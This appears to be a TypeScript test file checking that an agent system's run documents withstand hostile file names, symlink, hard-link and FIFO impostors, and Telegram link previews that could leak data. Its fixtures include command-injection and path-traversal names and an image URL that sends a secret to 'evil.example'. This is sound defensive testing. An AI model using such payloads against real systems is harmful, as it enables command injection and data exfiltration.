// Documents of a run that are not what they seem: hostile names, things that are no files, pictures that would call home.
import { execFileSync } from "node:child_process";
import { linkSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { createRunBoard } from "../../src/app/board.ts";
import { Brief } from "../../src/brief/brief.ts";
import { createTelegramChannel } from "../../src/channels/telegram/channel.ts";
import { systemClock } from "../../src/core/clock.ts";
import { silentLogger } from "../../src/core/logger.ts";
import { briefIdOf } from "../../src/subagents/documents/run-documents.ts";
import { createDelegation } from "../support/delegation.ts";
import { createFakeTelegram } from "../support/fake-telegram.ts";

const HOSTILE_NAMES = ["two\nlines", "\"'`$(id)", "-rf", "x".repeat(255), "🦀", "CON", "dots..", "../../up", "a/b", "nul\0byte"];

describe("files of a run", () => {
  it("[BP1] FM-021 are named after its id, whatever it is called; the name is only shown", async () => {
    await using scene = await createDelegation();
    await scene.documents.takeUp();
    scene.documents.start();
    const runs = await Promise.all(HOSTILE_NAMES.map((label) => scene.spawn(label)));
    for (const run of runs) {
      await scene.folder.stores.runs.start(run.id);
      await scene.folder.stores.db.transaction([], (tx) =>
        scene.folder.stores.runs.end(tx, run.id, { as: "done", reason: null, incomplete: false, delivery: "skipped" }),
      );
    }
    await scene.documents.stop();
    for (const run of runs) {
      const name = briefIdOf(run.id);
      expect(name).toMatch(/^brief-[0-9a-f]{6}$/);
      expect(readdirSync(scene.folderOf(run)).sort()).toEqual([`${name}.brief.md`, `${name}.response.md`, "trace.md"]);
      const { body } = Brief.parse(readFileSync(join(scene.folderOf(run), `${name}.brief.md`)));
      expect(body.split("\n").slice(0, 2)).toEqual([expect.stringMatching(/^# \P{Cc}+$/u), ""]);
    }
    const requester = join(scene.folder.stateDir, "agents", "main", "sessions", runs[0]?.requesterSessionId ?? "");
    expect(readdirSync(requester)).toEqual(["trace.md"]);
  });

  /** What may lie where a document should be; each gets the path and a file with a secret in it. */
  const IMPOSTORS: [string, (path: string, secret: string) => void][] = [
    ["a link to a secret", (path, secret) => symlinkSync(secret, path)],
    ["a second name of a secret", (path, secret) => linkSync(secret, path)],
    ["a link to a device", (path) => symlinkSync("/dev/zero", path)],
    ["a FIFO", (path) => execFileSync("sh", ["-c", 'mkfifo "$0"', path])],
    ["a folder", (path) => mkdirSync(path)],
  ];

  it.each(IMPOSTORS)("[BP3] FM-022 %s is not read, not written through, and holds nobody up", async (_what, put) => {
    await using scene = await createDelegation();
    const { stores, log, lines, stateDir } = scene.folder;
    const run = await scene.spawn("job");
    const secret = join(stateDir, "secret");
    writeFileSync(secret, "TOP SECRET");
    mkdirSync(scene.folderOf(run));
    for (const name of ["BRIEF.md", "trace.md"]) put(join(scene.folderOf(run), name), secret);
    const { details } = createRunBoard({
      ...{ stores, lane: { positions: async () => new Map() }, archiver: { dueAt: () => null }, log },
      ...{
        payments: { ownLevels: async () => new Map() },
        again: { taskOf: async () => null },
        briefing: scene.briefing,
        clock: scene.folder.clock,
      },
    });
    expect(await details.find(run.id)).toMatchObject({ run: { id: run.id } });
    expect(JSON.stringify(await details.find(run.id))).not.toContain("TOP SECRET");
    expect(await details.find(run.id)).not.toHaveProperty("brief");
    expect(await details.find(run.id)).not.toHaveProperty("trace");

    await stores.runs.start(run.id);
    await stores.db.transaction([], (tx) =>
      stores.runs.end(tx, run.id, { as: "done", reason: null, incomplete: false, delivery: "skipped" }),
    );
    await scene.documents.takeUp();
    scene.documents.start();
    await scene.documents.stop();
    expect(readFileSync(secret, "utf8")).toBe("TOP SECRET");
    expect(lines.filter((line) => line.msg === "the documents of a run could not be written")).toHaveLength(1);
    // Once the impostor is gone they are written after all.
    for (const name of ["BRIEF.md", "trace.md"]) rmSync(join(scene.folderOf(run), name), { recursive: true, force: true });
    const again = scene.restart();
    await again.takeUp();
    again.start();
    await again.stop();
    expect(statSync(join(scene.folderOf(run), "trace.md")).isFile()).toBe(true);
  });
});

it("[AN5] FM-026 Telegram is told to look at no link of a message, so that a picture calls nobody", async () => {
  const fake = await createFakeTelegram();
  try {
    fake.chats.add(77);
    const channel = createTelegramChannel({
      ...{ botToken: fake.token, apiRoot: fake.apiRoot, mode: "polling" as const, clock: systemClock, log: silentLogger, timeoutMs: 3_000 },
    });
    const address = { channel: "telegram", account: "7000001", chat: "77", kind: "dm" } as const;
    for (const part of channel.render({ markdown: "Result: ![x](https://evil.example/?q=SECRET)" }, address))
      expect(await channel.send({ address, part, key: "announce:1#0", repeated: false })).toMatchObject({ status: "sent" });
    const sent = fake.calls.filter((call) => /^send/.test(call.method));
    expect(sent.map((call) => call.method)).toEqual(["sendMessage"]);
    expect(sent[0]?.payload).toMatchObject({ link_preview_options: { is_disabled: true } });
  } finally {
    await fake.close();
  }
});
